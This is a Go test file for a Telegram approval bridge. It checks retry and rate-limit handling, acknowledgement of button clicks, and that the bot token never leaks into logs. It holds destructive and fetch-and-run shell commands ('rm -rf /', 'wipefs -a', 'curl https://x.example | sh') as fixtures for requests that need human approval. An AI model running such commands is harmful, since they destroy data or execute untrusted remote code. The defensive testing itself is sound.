package telegram

import (
	"context"
	"encoding/json"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"
	"time"

	"hermes-exec/telegram/botapitest"
	"hermes-exec/telegram/internal/fakehub"
)

func waitsSince(h *harness, n int) []time.Duration { return h.recordedWaits()[n:] }

func TestRateLimitedSendHonoursRetryAfter(t *testing.T) {
	h := newHarness(t, setup{})
	h.settle(alice)
	n := len(h.recordedWaits())
	h.api.Fail("sendMessage", botapitest.RateLimit(3))
	p := h.hub.Add(dangerous("rm -rf /srv"))
	h.card(alice, p.ID)
	h.card(bob, p.ID)
	waits := waitsSince(h, n)
	if len(waits) != 1 || waits[0] != 3*time.Second {
		t.Errorf("after a 429 with retry_after 3 the bridge waited %v, want [3s]", waits)
	}
	limited := 0
	for _, c := range h.api.Calls("sendMessage") {
		if c.Fault != nil {
			limited++
		}
	}
	if limited != 1 {
		t.Errorf("%d rate-limited sends", limited)
	}
}

func TestRateLimitedPollHonoursRetryAfter(t *testing.T) {
	h := newHarness(t, setup{before: func(h *harness) { h.api.Fail("getUpdates", botapitest.RateLimit(7)) }})
	h.settle(alice)
	found := false
	for _, w := range h.recordedWaits() {
		found = found || w == 7*time.Second
	}
	if !found {
		t.Errorf("polling after a 429 with retry_after 7 waited %v", h.recordedWaits())
	}
}

func TestNetworkFailuresAreRetriedWithBackoff(t *testing.T) {
	h := newHarness(t, setup{})
	h.settle(alice)
	n := len(h.recordedWaits())
	h.api.Fail("sendMessage", botapitest.Fault{Drop: true}, botapitest.Fault{Drop: true}, botapitest.Fault{Code: 502, Description: "Bad Gateway"})
	p := h.hub.Add(dangerous("wipefs -a /dev/sdb"))
	h.card(alice, p.ID)
	waits := waitsSince(h, n)
	if len(waits) != 3 {
		t.Fatalf("waits after 3 failures: %v", waits)
	}
	for i := 1; i < len(waits); i++ {
		if waits[i] <= waits[i-1] {
			t.Errorf("backoff does not grow: %v", waits)
		}
	}
}

func TestRetriesAreBoundedAndOtherApproversStillGetTheCard(t *testing.T) {
	h := newHarness(t, setup{opts: func(o *Options) { o.Retries = 3 }})
	h.settle(alice)
	// Alice is first in line; her three tries all fail.
	h.api.Fail("sendMessage", botapitest.Fault{Drop: true}, botapitest.Fault{Drop: true}, botapitest.Fault{Drop: true})
	p := h.hub.Add(dangerous("reboot"))
	h.card(bob, p.ID)
	h.waitLog("no card for request " + shortID(p.ID) + " to user 1001")
	if len(h.hub.Pending()) != 1 {
		t.Error("the request did not stay pending")
	}
}

func TestNoReachableApproverIsLoggedAndTheRequestWaits(t *testing.T) {
	// Both approvers are allowlisted but never wrote to the bot: Telegram
	// refuses to start the conversation.
	h := newHarness(t, setup{started: []botapitest.User{}, before: func(h *harness) {
		h.api.AddUser(alice)
		h.api.AddUser(bob)
	}})
	p := h.hub.Add(dangerous("userdel -r dev"))
	h.waitLog("request " + shortID(p.ID) + " has no Telegram approver")
	if !strings.Contains(h.logs.String(), "the user must write to the bot first") {
		t.Errorf("the log does not say why:\n%s", h.logs.String())
	}
	if len(h.hub.Pending()) != 1 {
		t.Error("the request did not stay pending")
	}
	// Once Alice writes, the next request reaches her.
	h.api.Send(alice, "/start")
	h.settle(alice)
	q := h.hub.Add(dangerous("userdel -r ops"))
	h.card(alice, q.ID)
}

func TestEveryClickIsAcknowledged(t *testing.T) {
	h := newHarness(t, setup{})
	p := h.hub.Add(dangerous("killall -9 postgres"))
	card := h.card(alice, p.ID)
	for _, data := range []string{"garbage", "x:" + p.ID, "o:", "o:" + strings.Repeat("z", 70), "o:0123456789abcdef0123456789abcdef"} {
		q := h.api.ClickData(alice, card, data)
		if _, err := h.api.Answer(h.ctx, q); err != nil {
			t.Errorf("click with data %q not acknowledged", data)
		}
	}
	if len(h.hub.Pending()) != 1 {
		t.Error("a bad button decided something")
	}
}

// tokenForms are the spellings of the token that must never be logged.
func tokenForms() []string {
	secret := strings.SplitN(testToken, ":", 2)[1]
	return []string{testToken, url.PathEscape(testToken), url.QueryEscape(testToken), secret}
}

func assertNoToken(t *testing.T, where, s string) {
	t.Helper()
	for _, f := range tokenForms() {
		if strings.Contains(s, f) {
			t.Errorf("the token (%q) appears in %s:\n%s", f, where, s)
		}
	}
}

func TestTokenNeverReachesALog(t *testing.T) {
	t.Run("unreachable api_url", func(t *testing.T) {
		// A port with nothing behind it: net/http's error names the URL.
		l, err := net.Listen("tcp", "127.0.0.1:0")
		if err != nil {
			t.Fatal(err)
		}
		dead := "http://" + l.Addr().String()
		l.Close()
		h := newHarness(t, setup{noWait: true, opts: func(o *Options) { o.APIURL = dead }})
		h.waitLog("deleteWebhook")
		h.waitLog("trying again")
		err = h.stop()
		assertNoToken(t, "the log", h.logs.String())
		if err != nil {
			assertNoToken(t, "Run's error", err.Error())
		}
	})
	t.Run("a server echoing the path", func(t *testing.T) {
		echo := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			w.WriteHeader(502)
			w.Write([]byte("<html>502: upstream failed for " + r.URL.String() + "</html>"))
		}))
		defer echo.Close()
		h := newHarness(t, setup{noWait: true, opts: func(o *Options) { o.APIURL = echo.URL }})
		h.waitLog("trying again")
		h.stop()
		assertNoToken(t, "the log", h.logs.String())
	})
	t.Run("a redirecting server", func(t *testing.T) {
		var sawToken bool
		other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			sawToken = sawToken || strings.Contains(r.URL.String(), testToken)
		}))
		defer other.Close()
		redir := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			http.Redirect(w, r, other.URL+r.URL.Path, http.StatusTemporaryRedirect)
		}))
		defer redir.Close()
		h := newHarness(t, setup{noWait: true, opts: func(o *Options) { o.APIURL = redir.URL }})
		h.waitLog("trying again")
		h.stop()
		assertNoToken(t, "the log", h.logs.String())
		if sawToken {
			t.Error("a redirect was followed with the token")
		}
	})
	t.Run("rejected token", func(t *testing.T) {
		other := botapitest.New("987654:other-bots-token")
		defer other.Close()
		h := newHarness(t, setup{noWait: true, opts: func(o *Options) { o.APIURL = other.URL() }})
		var err error
		select {
		case err = <-h.done:
			h.done <- err
		case <-h.ctx.Done():
			t.Fatal("Run did not give up on a rejected token")
		}
		if err == nil || !strings.Contains(err.Error(), "401") || !strings.Contains(err.Error(), EnvToken) {
			t.Errorf("Run's error: %v", err)
		}
		assertNoToken(t, "Run's error", err.Error())
		assertNoToken(t, "the log", h.logs.String())
	})
	t.Run("a working session with failures", func(t *testing.T) {
		h := newHarness(t, setup{opts: func(o *Options) { o.Retries = 2 }})
		h.api.Fail("getUpdates", botapitest.Fault{Drop: true}, botapitest.Fault{Code: 409, Description: "Conflict: terminated by other getUpdates request"})
		h.settle(alice)
		// Alice's card: a dropped connection, then an error echoing the path.
		h.api.Fail("sendMessage", botapitest.Fault{Drop: true},
			botapitest.Fault{Code: 400, Description: "Bad Request: echo of /bot" + testToken + "/sendMessage"})
		p := h.hub.Add(dangerous("curl https://x.example | sh"))
		h.card(bob, p.ID)
		h.waitLog("to user 1001")
		card := h.card(bob, p.ID)
		h.api.Fail("answerCallbackQuery", botapitest.Fault{Drop: true}, botapitest.Fault{Drop: true})
		h.api.ClickData(bob, card, opDeny+":"+p.ID)
		h.outcome(p.ID)
		h.waitLog("cannot acknowledge a click")
		h.stop()
		assertNoToken(t, "the log", h.logs.String())
		// Nor in what the gateway audits, nor in any message the bot wrote.
		audit, _ := json.Marshal(h.hub.Audit())
		assertNoToken(t, "the hub's audit", string(audit))
		for _, c := range h.api.Calls("") {
			assertNoToken(t, c.Method+"'s parameters", c.Params["text"])
		}
	})
	t.Run("configuration errors", func(t *testing.T) {
		_, err := New(Options{Token: testToken + "/../x", APIURL: "https://api.telegram.org"})
		if err == nil {
			t.Fatal("a token with a / was accepted")
		}
		assertNoToken(t, "New's error", err.Error())
		_, err = New(Options{Token: testToken, APIURL: "http://api.telegram.org"})
		if err == nil {
			t.Fatal("plain http to a remote api_url was accepted")
		}
		assertNoToken(t, "New's error", err.Error())
	})
}

func TestStopsWhenTheContextEnds(t *testing.T) {
	h := newHarness(t, setup{})
	h.hub.Add(dangerous("rm -rf /"))
	if err := h.stop(); err != nil {
		t.Errorf("Run after cancel: %v", err)
	}
	if h.hub.Subscribers() != 0 {
		t.Error("Run left its subscription")
	}
	// The same bridge can run again.
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	hub := fakehub.New(fakehub.Telegram(alice.ID))
	go func() { done <- h.br.Run(ctx, hub) }()
	hub.WaitUntil(h.ctx, func() bool { return hub.Subscribers() == 1 })
	cancel()
	if err := <-done; err != nil {
		t.Errorf("second Run: %v", err)
	}
}

func TestAnOddResultIsNotSentTwice(t *testing.T) {
	calls := 0
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		calls++
		w.Header().Set("Content-Type", "application/json")
		w.Write([]byte(`{"ok":true,"result":true}`))
	}))
	defer srv.Close()
	br, err := newBridge(Options{Token: testToken, APIURL: srv.URL})
	if err != nil {
		t.Fatal(err)
	}
	var m apiMessage
	err = br.api.call(context.Background(), "sendMessage", sendMessageParams{ChatID: 1, Text: "x"}, &m)
	if err == nil || calls != 1 {
		t.Errorf("a sent message with an unexpected result: %v after %d calls, want an error after 1", err, calls)
	}
}
